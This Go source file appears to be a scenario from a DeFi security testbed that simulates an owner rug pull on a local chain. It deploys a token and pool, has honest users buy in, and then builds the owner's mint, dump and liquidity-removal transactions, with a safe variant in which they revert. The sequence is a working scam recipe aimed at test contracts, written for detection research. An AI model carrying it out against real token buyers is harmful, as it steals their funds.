package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"

	"github.com/aegis-defi/aegis/contracts"
	"github.com/aegis-defi/aegis/internal/chain"
	"github.com/aegis-defi/aegis/internal/testbed"
)

// RugPull is the owner rug pull: a project owner launches a token with a
// TKN/WETH pool, honest users buy in, and the owner walks away with their
// WETH.
//
// Setup: the deployer runs a neutral exchange (WETH9, AMMFactory,
// AMMRouter). The attacker deploys the project token "Skypeer" (SKP,
// 1,000,000 supply), pairs all of it with 100 WETH of its own and holds
// the LP tokens; four honest users then buy SKP for 50 ETH each.
//
// Exploit (five transactions): mint 1,000,000,000 SKP to itself, approve
// the router, dump them into the pool for nearly all its WETH, approve the
// router for the LP tokens, and remove the liquidity for what is left.
//
// Vulnerable variant: SKP is a MintableToken (owner mint) and the attacker
// keeps its LP tokens. Safe variant: SKP is a FixedSupplyToken (no mint)
// and the LP tokens are time-locked for a year in a LiquidityLocker; the
// mint, the dump and the removal all revert.
type RugPull struct{}

// rugSeedWETH is the attacker's own liquidity; rugBuy is each honest
// user's purchase.
func rugSeedWETH() *big.Int   { return chain.Ether(100) }
func rugSupply() *big.Int     { return chain.Ether(1_000_000) }
func rugBuy() *big.Int        { return chain.Ether(50) }
func rugMintAmount() *big.Int { return chain.Ether(1_000_000_000) }

const (
	// rugBuyers is the number of honest buyers.
	rugBuyers = 4
	// rugGas is the gas limit of each exploit transaction.
	rugGas = 3_000_000
	// rugLockSeconds is how long the safe variant's LP tokens are locked.
	rugLockSeconds = 365 * 24 * 3600
)

// Info implements Scenario.
func (RugPull) Info() Info {
	return Info{
		Name:     "rug-pull",
		Class:    "owner rug pull",
		Incident: "recurring owner rug pulls (e.g. SKP token 2026)",
		Summary: "The token's owner mints itself a huge supply, dumps it into the token/WETH pool and removes its " +
			"liquidity, taking the WETH honest buyers paid in.",
	}
}

// Setup implements Scenario.
func (RugPull) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	if err := requireUsers(env, rugBuyers); err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}
	if v != Vulnerable && v != Safe {
		return nil, fmt.Errorf("rug-pull: unknown variant %q", v)
	}
	c, owner := env.Client, env.Attacker
	weth, err := testbed.DeployWETH(ctx, c, env.Deployer)
	if err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}
	amm, err := testbed.DeployAMM(ctx, c, env.Deployer, weth.Address)
	if err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}
	// The profit baseline is taken before the attacker spends anything on
	// its project; Outcome adds back only the exploit's gas, so the
	// attacker's setup gas counts against it (a few thousandths of an ETH).
	meter, err := newProfitMeter(ctx, c, weth, owner.Address)
	if err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}

	var token *chain.Contract
	if v == Vulnerable {
		token, err = testbed.DeployToken(ctx, c, owner, "Skypeer", "SKP", rugSupply())
	} else {
		token, err = testbed.DeployFixedToken(ctx, c, owner, "Skypeer", "SKP", rugSupply())
	}
	if err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}
	if err := testbed.WrapETH(ctx, owner, weth, rugSeedWETH()); err != nil {
		return nil, fmt.Errorf("rug-pull: seed: %w", err)
	}
	pair, err := amm.CreatePairWithLiquidity(ctx, owner, token, weth, rugSupply(), rugSeedWETH())
	if err != nil {
		return nil, fmt.Errorf("rug-pull: launch pool: %w", err)
	}
	lp, err := pair.CallBig(ctx, "balanceOf", owner.Address)
	if err != nil {
		return nil, fmt.Errorf("rug-pull: AMMPair.balanceOf: %w", err)
	}
	var locker *chain.Contract
	if v == Safe {
		if locker, err = testbed.DeployContract(ctx, c, env.Deployer, "LiquidityLocker"); err != nil {
			return nil, fmt.Errorf("rug-pull: %w", err)
		}
		head, err := c.Backend().HeaderByNumber(ctx, nil)
		if err != nil {
			return nil, fmt.Errorf("rug-pull: eth_getBlockByNumber: %w", err)
		}
		if err := testbed.Approve(ctx, owner, pair, locker.Address, lp); err != nil {
			return nil, fmt.Errorf("rug-pull: %w", err)
		}
		unlock := head.Time + rugLockSeconds
		if _, err := locker.Transact(ctx, owner, "lock", pair.Address, lp, owner.Address, unlock); err != nil {
			return nil, fmt.Errorf("rug-pull: LiquidityLocker.lock: %w", err)
		}
	}

	path := []common.Address{weth.Address, token.Address}
	for i, u := range env.Users[:rugBuyers] {
		if _, err := amm.Router.TransactOpts(ctx, u, chain.TxOpts{Value: rugBuy(), GasLimit: rugGas}, "swapExactETHForTokens", big.NewInt(0), path, u.Address, testbed.Deadline()); err != nil {
			return nil, fmt.Errorf("rug-pull: honest buyer %d: AMMRouter.swapExactETHForTokens: %w", i, err)
		}
	}
	poolWETH, err := weth.CallBig(ctx, "balanceOf", pair.Address)
	if err != nil {
		return nil, fmt.Errorf("rug-pull: WETH9.balanceOf: %w", err)
	}
	// The exploit calls mint through the MintableToken ABI on both variants:
	// the FixedSupplyToken has no such function and reverts.
	mintable, err := contracts.Load("MintableToken")
	if err != nil {
		return nil, fmt.Errorf("rug-pull: %w", err)
	}
	return &rugStaged{
		env: env, v: v, weth: weth, amm: amm, pair: pair, locker: locker,
		token: c.Bind(token.Address, mintable.ABI), lp: lp, poolWETH: poolWETH, meter: meter,
	}, nil
}

type rugStaged struct {
	env      *Env
	v        Variant
	weth     *chain.Contract
	amm      *testbed.AMM
	pair     *chain.Contract
	locker   *chain.Contract
	token    *chain.Contract
	lp       *big.Int
	poolWETH *big.Int
	meter    *profitMeter
	txs      []*types.Transaction
}

// Targets implements Staged: the pool holding the buyers' WETH, then the
// token. Neither is pausable: rug pulls are caught by watching privileged
// calls, not stopped by a pause switch.
func (s *rugStaged) Targets() []Target {
	return []Target{
		{Name: "skp-weth-pair", Address: s.pair.Address, Pausable: false},
		{Name: "skp-token", Address: s.token.Address, Pausable: false},
	}
}

// Exploit implements Staged: mint, approve, dump, approve LP, remove liquidity.
func (s *rugStaged) Exploit(ctx context.Context) ([]*types.Transaction, error) {
	c, a := s.env.Client, s.env.Attacker
	max := testbed.MaxUint256()
	steps := []struct {
		k      *chain.Contract
		method string
		args   []any
	}{
		{s.token, "mint", []any{a.Address, rugMintAmount()}},
		{s.token, "approve", []any{s.amm.Router.Address, max}},
		{s.amm.Router, "swapExactTokensForTokens", []any{rugMintAmount(), big.NewInt(0), []common.Address{s.token.Address, s.weth.Address}, a.Address, testbed.Deadline()}},
		{s.pair, "approve", []any{s.amm.Router.Address, max}},
		{s.amm.Router, "removeLiquidity", []any{s.token.Address, s.weth.Address, s.lp, big.NewInt(0), big.NewInt(0), a.Address, testbed.Deadline()}},
	}
	s.txs = s.txs[:0]
	for _, st := range steps {
		data, err := st.k.Pack(st.method, st.args...)
		if err != nil {
			return nil, fmt.Errorf("rug-pull: %w", err)
		}
		tx, err := c.BuildTx(ctx, a, &st.k.Address, data, chain.TxOpts{GasLimit: rugGas})
		if err != nil {
			return nil, fmt.Errorf("rug-pull: build %s: %w", st.method, err)
		}
		s.txs = append(s.txs, tx)
	}
	return s.txs, nil
}

// Outcome implements Staged. AttackerProfit is the attacker's ETH+WETH
// change since before it launched the token (so net of its 100 WETH seed),
// exploit gas excluded. ProtocolLoss is the WETH that left the pool during
// the exploit, capped at what honest buyers paid in (the rest was the
// attacker's own seed).
func (s *rugStaged) Outcome(ctx context.Context) (Outcome, error) {
	profit, err := s.meter.profit(ctx, s.txs)
	if err != nil {
		return Outcome{}, fmt.Errorf("rug-pull: %w", err)
	}
	now, err := s.weth.CallBig(ctx, "balanceOf", s.pair.Address)
	if err != nil {
		return Outcome{}, fmt.Errorf("rug-pull: WETH9.balanceOf pair: %w", err)
	}
	loss := new(big.Int).Sub(s.poolWETH, now)
	honest := new(big.Int).Mul(rugBuy(), big.NewInt(rugBuyers))
	if loss.Cmp(honest) > 0 {
		loss = honest
	}
	return Outcome{AttackerProfit: profit, ProtocolLoss: loss}, nil
}
